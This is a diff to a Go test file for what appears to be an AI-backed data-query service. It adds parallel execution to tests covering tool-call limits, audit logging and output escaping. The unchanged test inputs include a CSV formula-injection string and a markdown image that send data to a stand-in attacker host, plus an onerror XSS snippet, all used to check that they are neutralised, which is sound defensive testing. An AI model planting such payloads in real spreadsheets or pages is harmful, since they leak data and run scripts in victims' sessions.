@@ -57,6 +57,7 @@ func (h *harness) auditCount(subject string) int {
 // version, and a batch an older client may send is bounded and spends one
 // tool call of the user's budget per call.
 func TestMCPBatchesCountToolCalls(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, setup{cfg: func(c *app.Config) { c.Limits = tools.Limits{ToolCallBurst: 5, ToolCallsPerMinute: 1} }})
 	for _, c := range []struct {
 		version string
@@ -109,6 +110,7 @@ func TestMCPBatchesCountToolCalls(t *testing.T) {
 // An MCP call to a tool that does not exist is refused and audited like
 // every attempt; the client's self-chosen name reaches the log escaped.
 func TestMCPUnknownToolAuditedAndClientNameEscaped(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, setup{})
 	res, body := h.do("POST", "/mcp", "demo-frank", rpcCall(1, "drop_all_tables", `{"product":"customers"}`), mcpHeaders("2025-06-18"))
 	if res.StatusCode != http.StatusOK || !strings.Contains(string(body), "unknown tool") {
@@ -157,6 +159,7 @@ func writeCatalog(t *testing.T, edit func(name, text string) string) string {
 // the record detail and both exports withhold arguments and question, as
 // describe and get_record do.
 func TestAuditSurfacesApplyColumnPolicy(t *testing.T) {
+	t.Parallel()
 	cat := writeCatalog(t, func(name, text string) string {
 		if name != "access-audit" {
 			return text
@@ -221,6 +224,7 @@ func TestAuditSurfacesApplyColumnPolicy(t *testing.T) {
 
 // A question written as a spreadsheet formula stays text in the CSV export.
 func TestAuditCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, setup{})
 	q := `=HYPERLINK("http://attacker.example/?"&A1,"click")`
 	if _, err := h.app.Tools.Call(context.Background(), tools.Caller{Subject: h.app.Directory.Lookup("alice@bank.example"), Channel: "api", Question: q},
@@ -246,6 +250,7 @@ func TestAuditCSVNeutralisesFormulas(t *testing.T) {
 // A chat body that trickles in is cut off at the body timeout, and the
 // endpoints that authenticate nobody (Slack's) are limited per address.
 func TestSlowBodiesAndPublicFloods(t *testing.T) {
+	t.Parallel()
 	public := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusOK) })
 	h := newHarness(t, setup{opts: func(o *web.Options) {
 		o.Limits.BodyTimeout = 300 * time.Millisecond
@@ -288,6 +293,7 @@ func TestSlowBodiesAndPublicFloods(t *testing.T) {
 
 // /metrics is not served to anyone on the API port: only with its token.
 func TestMetricsNeedTheirToken(t *testing.T) {
+	t.Parallel()
 	for _, c := range []struct {
 		token, bearer string
 		want          int
@@ -302,6 +308,7 @@ func TestMetricsNeedTheirToken(t *testing.T) {
 
 // The channel policy sees comes from the route, not a header the client sets.
 func TestChannelComesFromTheRoute(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, setup{})
 	q := map[string]any{"message": acquisitionQuestion}
 	h.do("POST", "/v1/chat", "demo-carol", q, map[string]string{"X-Askmesh-Client": "web"})
@@ -322,6 +329,7 @@ func TestChannelComesFromTheRoute(t *testing.T) {
 // Markup a user put in a value echoed back (a product name in a refusal)
 // is inert in the OpenAI-compatible markdown; numbers are plain decimals.
 func TestOpenAIMarkdownEscapesEchoedMarkup(t *testing.T) {
+	t.Parallel()
 	evil := `![x](http://attacker.example/p.png) <img src=x onerror=alert(1)>`
 	args, _ := json.Marshal(map[string]any{"product": "customers", "metrics": []string{"customer_count"}, "group_by": []string{evil}})
 	model := &assistanttest.Script{Turns: []assistanttest.Turn{
@@ -351,6 +359,7 @@ func TestOpenAIMarkdownEscapesEchoedMarkup(t *testing.T) {
 
 // History a client hands over is bounded by messages and bytes.
 func TestClientHistoryIsBounded(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, setup{})
 	var msgs []map[string]string
 	for i := range 200 {
